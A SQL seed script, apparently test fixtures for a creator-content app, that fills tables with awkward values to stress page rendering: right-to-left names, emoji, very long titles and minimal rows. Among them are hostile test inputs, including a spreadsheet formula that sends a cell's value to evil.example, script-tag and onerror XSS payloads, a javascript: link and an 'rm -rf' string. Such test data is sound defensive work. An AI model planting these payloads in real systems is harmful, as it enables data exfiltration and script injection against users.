-- What breaks careless pages: formulas, markup, emoji, right-to-left names, a very long title, and in every table one
-- row with nothing but what NOT NULL demands.

UPDATE accounts SET name = '=HYPERLINK("https://evil.example/?x="&A1,"Open invoice")'
    WHERE id = pg_temp.id('account', 37);
UPDATE accounts SET name = 'استوديو النور للإعلام' WHERE id = pg_temp.id('account', 41);
UPDATE creators SET display_name = 'שירה כהן 🎨 Art' WHERE id = pg_temp.id('creator', 97);
UPDATE projects SET title = '🚀🔥 Q4 launch – “big” ideas & <b>bold</b> hooks' WHERE id = pg_temp.id('project', 60);
UPDATE content_pieces SET title = (ARRAY[
    '<script>alert("title")</script> Why your hooks fail', '😂😂 POV: the algorithm finally loves you 💸✨',
    rpad('The longest title anybody ever pasted into a form, word after word after word ', 500, 'and on and on '),
        '**Not bold** [not a link](javascript:alert(1)) $x^2$ :material/delete:'
])[odd.no]
FROM (SELECT id, row_number() OVER (ORDER BY created_at DESC) AS no FROM piece WHERE state = 'completed'
    ORDER BY created_at DESC LIMIT 4) AS odd
WHERE content_pieces.id = odd.id;
UPDATE processing_queue SET error_message = E'Traceback (most recent call last):\n\t<b>worker</b> \x1b[31m**failed**\x1b[0m `rm -rf`\r\nValueError: <img src=x onerror=alert(1)>'
WHERE id = (SELECT id FROM processing_queue WHERE status = 'failed' ORDER BY created_at DESC LIMIT 1);

DO $$
DECLARE
    bare record;
BEGIN
    FOR bare IN
        SELECT * FROM (VALUES
            ('accounts', '{"name": "Nothing filled in"}'), ('users', '{"email": "nobody@nowhere.example"}'),
                ('user_profiles', '{}'), ('creator_categories', '{"name": "Uncategorised"}'),
            ('creators', '{"platform": "tiktok", "username": "blank.profile", "profile_url": "https://www.tiktok.com/@blank.profile"}'), ('account_followed_creators', '{}'),
            ('projects', '{"title": "Untitled"}'), ('project_collaborators', '{}'),
                ('canvas_folders', '{"name": "Untitled folder"}'), ('chat_interfaces', '{}'),
            ('content_pieces', '{"source_url": "https://www.tiktok.com/@blank.profile/video/7000000000000000000", "platform": "tiktok", "content_type": "video"}'), ('content_analysis', '{}'),
            ('canvas_folder_items', '{}'),
            ('canvas_connections', '{"source_type": "folder", "source_id": "00000000-0000-4000-8000-000000000001", "target_type": "chat_interface", "target_id": "00000000-0000-4000-8000-000000000002"}'),
            ('generated_scripts', '{}'), ('voice_models', '{"name": "Untitled voice"}'),
                ('avatar_models', '{"name": "Untitled avatar"}'), ('generated_content', '{"content_type": "audio"}'),
            ('processing_queue', '{"job_type": "content_scraping", "job_data": {}}'),
                ('api_usage_logs', '{"service_name": "openai"}'),
            ('account_usage_stats', '{"stat_date": "2000-01-01"}'), ('content_annotations', '{"annotation_text": "?"}')
        ) AS v (name, required)
    LOOP
        -- Columns that the JSON does not name become NULL, whatever their default.
        EXECUTE format('INSERT INTO %1$I SELECT (jsonb_populate_record(NULL::%1$I, $1)).*', bare.name)
        USING bare.required::jsonb || jsonb_build_object('id', pg_temp.id('bare', hashtext(bare.name)));
    END LOOP;
END
$$;
